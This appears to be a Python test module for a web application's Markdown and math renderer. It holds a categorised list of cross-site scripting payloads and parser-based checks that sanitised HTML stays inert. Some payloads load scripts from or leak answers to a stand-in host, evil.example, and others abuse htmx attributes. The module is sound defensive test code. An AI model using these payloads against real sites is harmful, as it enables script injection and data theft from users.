"""XSS payloads and the checks that say HTML is inert, for every path that turns untrusted text into HTML.

Reuse them for any new such path (reviewer corrections, imported content, browser tests)::

    from tests.security.payloads import PAYLOADS, assert_safe_html, assert_safe_page

    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_a_correction_is_inert(payload: str) -> None:
        assert_safe_html(render_markdown(payload).html)

`assert_safe_html` is for a sanitised fragment (what `render_markdown` returns): only the reader's
allow-list of tags, no event handlers, no style, no htmx attributes, no script-bearing URL, no image
from another site, no id the page around it uses. `assert_safe_page` is for a whole page or an htmx
fragment from our templates, which may carry our own scripts and htmx attributes but nothing the
payload could have added. Both read HTML as a parser does (`html.parser`, character references
decoded), never by string equality.

Every payload that could run calls ``alert(1)``; a browser test can listen for the dialog.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

ROOT = Path(__file__).resolve().parents[2]

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script src="https://evil.example/x.js"></script>',
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<div><script>alert(1)",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<textarea><script>alert(1)</script></textarea>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<title><script>alert(1)</script></title>",
]
EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<b><i><u onclick=alert(1)>x",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<x-widget onclick=alert(1)>x</x-widget>",
    '<a href="#" onclick="alert(1)">x</a>',
    '<p onmouseover="alert(1)">hover</p>',
    "<marquee onstart=alert(1)>x</marquee>",
    '<div class="demo-slot" data-demo-slot="0" onclick=alert(1)></div>',
]
URL_SCHEMES = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="&#x0A;javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VbScRiPt:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>',
    '<a href="javascript:alert(1)"',
    '<img src="javascript:alert(1)">',
    '<img src="x" srcset="javascript:alert(1) 1x">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "> <a href='javascript:alert(1)'>quoted</a>",
]
SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]
EMBEDDING = [
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<IFRAME SRC="javascript:alert(1)"></IFRAME>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=data:text/html,<script>alert(1)</script>">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="import" href="https://evil.example/x.html">',
]
CSS = [
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="x:expression(alert(1))">x</p>',
    '<p style="width: EXPRESSION(alert(1))">x</p>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="background-image: url(&#106;avascript:alert(1))">x</div>',
    '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
]
BROKEN_TAGS = [
    '<img src=x onerror="alert(1)"//',
    "<img src=x onerror=alert(1)",
    '<a href="javascript:alert(1)">unclosed',
    "<<img src=x onerror=alert(1)>>",
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "</p><script>alert(1)</script><p>",
    "<p title='</p><script>alert(1)</script>'>x</p>",
]
HTMX_AND_CLOBBERING = [
    '<div hx-get="/accounts/" hx-trigger="load" hx-swap="outerHTML">x</div>',
    '<a hx-on:click="alert(1)">x</a>',
    '<div hx-on::load="alert(1)">x</div>',
    '<div data-hx-post="/tutor/ask/" data-hx-trigger="load">x</div>',
    '<div hx-vals=\'js:{a: alert(1)}\' hx-post="/x" hx-trigger="load">x</div>',
    '<button ws-send hx-vals=\'{"action": "retry", "answer": 1}\'>x</button>',
    '<div id="tutor-conversation">x</div>',
    '<div id="main" name="renderMathInElement">x</div>',
    '<img name="getElementById" src="x.png">',
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;AVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x](javascript:alert(1) "title")',
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '[x](https://example.org "\\" onmouseover=\\"alert(1)")',
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[x](https://example.org)<img src=x onerror=alert(1)>",
    '[<a href="javascript:alert(1)">x</a>](https://example.org)',
    "<javascript:alert(1)>",
    "<JavaScript:alert(1)>",
    "<vbscript:msgbox(1)>",
    '<https://example.org/"onmouseover="alert(1)>',
    "<data:text/html,<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](data:text/html,<script>alert(1)</script>)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](x.png "\\" onerror=\\"alert(1)")',
    '![x" onerror="alert(1)](x.png)',
    "![<img src=x onerror=alert(1)>](x.png)",
    "![x](https://evil.example/leak.png?answer=secret)",
    "![x](//evil.example/leak.png)",
    '<img src="https://evil.example/leak.png?answer=secret">',
    '<img src="/\\evil.example/leak.png">',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```demo x" onload="alert(1)\nx\n```',
    '!!! note" onclick="alert(1) "Title"\n    body',
    "??? <script>alert(1)</script>\n    body",
    "## Heading <img src=x onerror=alert(1)>",
    '## Heading {#x" onmouseover="alert(1)}',
    "## Skip here {#main}",
    "## Where answers go {#tutor-log}",
    "## Answer 1",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "Note[^1]\n\n[^1]: <script>alert(1)</script>",
    'Note[^x" onclick="alert(1)]\n\n[^x" onclick="alert(1)]: body',
]
MATH = [
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$\\url{javascript:alert(1)}$",
    "$\\htmlClass{tutor-form}{x}$",
    "$\\htmlId{tutor-conversation}{x}$",
    "$\\htmlStyle{background:url(javascript:alert(1))}{x}$",
    "$\\htmlData{hx-get=/accounts/}{x}$",
    "$\\includegraphics{javascript:alert(1)}$",
    "$$\\def\\x{\\href}\\x{javascript:alert(1)}{y}$$",
    "$<script>alert(1)</script>$",
    "$x</span><img src=x onerror=alert(1)>$",
    "\\\\(\\href{javascript:alert(1)}{x}\\\\)",
    '<span class="math math-inline">\\(\\href{javascript:alert(1)}{x}\\)</span>',
]

PAYLOADS: list[str] = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *URL_SCHEMES,
    *SVG_AND_MATHML,
    *EMBEDDING,
    *CSS,
    *BROKEN_TAGS,
    *HTMX_AND_CLOBBERING,
    *MARKDOWN,
    *MATH,
]

# --- reading HTML as a browser does --------------------------------------------------------------------

# What the reader's allow-list promises (the test states the rule; it does not import it).
ALLOWED_TAGS = {
    *("p", "br", "hr", "blockquote", "div", "span", "section", "h2", "h3", "h4", "h5", "h6"),
    *("strong", "b", "em", "i", "u", "s", "del", "ins", "mark", "small", "sup", "sub", "q", "cite"),
    *("code", "pre", "kbd", "samp", "abbr", "ul", "ol", "li", "dl", "dt", "dd"),
    *("table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td"),
    *("a", "img", "figure", "figcaption", "details", "summary"),
}
FORBIDDEN_TAGS = {
    *("script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "form", "input", "button"),
    *("style", "meta", "link", "svg", "math", "template", "textarea", "noscript", "video", "audio", "source"),
}
URL_ATTRIBUTES = {
    *("href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset", "to"),
    *("from", "values", "codebase", "cite", "longdesc", "ping", "manifest", "lowsrc", "dynsrc"),
}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
# htmx and its ws extension act on these; the payload must never be able to add one.
HTMX_ATTRIBUTE = re.compile(r"^(data-)?(hx-|ws-|sse-)")
STYLE_CODE = re.compile(r"url\s*\(|expression\s*\(|behavior\s*:|-moz-binding|@import|javascript:", re.IGNORECASE)

Element = tuple[str, list[tuple[str, str | None]]]


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[Element] = []
        self.script_text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.script_text.append(data)


def _parse(html: str) -> _Elements:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser


def elements(html: str) -> list[Element]:
    """Every start tag in `html` with its attributes, character references decoded."""
    return _parse(html).found


def url_as_browser_reads_it(value: str) -> str:
    # Browsers drop ASCII whitespace and control characters when they look for a scheme, and read a
    # backslash as a slash in http(s) URLs.
    return "".join(char for char in value if ord(char) > 0x20 and char != "\x7f").lower().replace("\\", "/")


def is_other_site(url: str) -> bool:
    read = url_as_browser_reads_it(url)
    return read.startswith("//") or bool(urlsplit(read).scheme)


# The templates of pages that show rendered Markdown or answers; a new such page (the review queue) joins here.
BODY_PAGES = (
    "templates/base.html",
    "chapters/templates/chapters/section.html",
    "chapters/templates/chapters/quiz.html",
    "chapters/templates/chapters/demo.html",
    "chapters/templates/chapters/author/section_edit.html",
    "tutor/templates/tutor/*.html",
    "uq/templates/uq/review*.html",
)


def page_ids() -> set[str]:
    """The fixed ids that the pages around rendered text give their own elements (htmx targets, the skip link)."""
    ids: set[str] = set()
    for pattern in BODY_PAGES:
        for path in ROOT.glob(pattern):
            ids |= set(re.findall(r'\bid="([^"{}]+)"', path.read_text()))
    return ids


_PAGE_ID_PATTERNS = re.compile(r"(answer|exchange|quiz-answer|demo|review|feedback|rate|report-comment|item)-\d+")


def _assert_no_script_in_attributes(tag: str, attributes: list[tuple[str, str | None]]) -> None:
    for name, value in attributes:
        assert not name.startswith("on"), f"event handler {name} on <{tag}>"
        if name in URL_ATTRIBUTES or name.endswith(":href"):
            for part in (value or "").split(","):  # srcset and friends hold several
                read = url_as_browser_reads_it(part)
                assert not read.startswith(DANGEROUS_SCHEMES), f"<{tag} {name}={value!r}>"
        if name == "style":
            assert not STYLE_CODE.search(value or ""), f"<{tag} style={value!r}>"
        if name == "http-equiv":
            raise AssertionError(f"<{tag} http-equiv={value!r}>")


def assert_safe_html(html: str, *, id_prefix: str = "") -> None:
    """`html` is a sanitised fragment that can run nothing, load nothing from elsewhere, and clobber no page id.

    `id_prefix`: every id must start with it (an answer's headings are ``answer-<id>-…``)."""
    assert "<script" not in html.lower(), "a <script> tag"
    reserved = page_ids()
    for tag, attributes in elements(html):
        assert tag not in FORBIDDEN_TAGS, f"<{tag}>"
        assert tag in ALLOWED_TAGS, f"<{tag}> is not on the reader's allow-list"
        _assert_no_script_in_attributes(tag, attributes)
        for name, value in attributes:
            assert name != "style", f"style on <{tag}>"
            assert not HTMX_ATTRIBUTE.match(name), f"htmx attribute {name} on <{tag}>"
            assert name != "name", f"name={value!r} on <{tag}> (DOM clobbering)"
            if tag == "img" and name == "src":
                assert not is_other_site(value or ""), f"an image from another site: {value!r}"
            if name == "id":
                assert (value or "").startswith(id_prefix), f"id={value!r} lacks the prefix {id_prefix!r}"
                assert value not in reserved and not _PAGE_ID_PATTERNS.fullmatch(value or ""), (
                    f"id={value!r} is one the page uses"
                )


def assert_safe_page(html: str) -> None:
    """A page (or an htmx fragment) of our templates: our own scripts only, and nothing executable added."""
    parsed = _parse(html)
    assert not parsed.script_text, f"inline script: {parsed.script_text[0][:80]!r}"
    for tag, attributes in parsed.found:
        values = dict(attributes)
        if tag == "script":
            assert (values.get("src") or "").startswith("/static/"), f"<script src={values.get('src')!r}>"
        assert tag not in {"iframe", "frame", "frameset", "object", "embed", "applet", "base"}, f"<{tag}>"
        if tag == "link":
            assert (values.get("href") or "").startswith("/static/"), f"<link href={values.get('href')!r}>"
        if tag == "img":
            assert not is_other_site(values.get("src") or ""), f"an image from another site: {values.get('src')!r}"
        _assert_no_script_in_attributes(tag, attributes)
        for name, value in attributes:
            assert not name.startswith(("hx-on", "data-hx-on")), f"{name} on <{tag}>"
            if HTMX_ATTRIBUTE.match(name):
                assert not (value or "").lstrip().lower().startswith(("js:", "javascript:")), f"{name}={value!r}"
                assert "alert(" not in (value or ""), f"{name}={value!r} carries the payload"
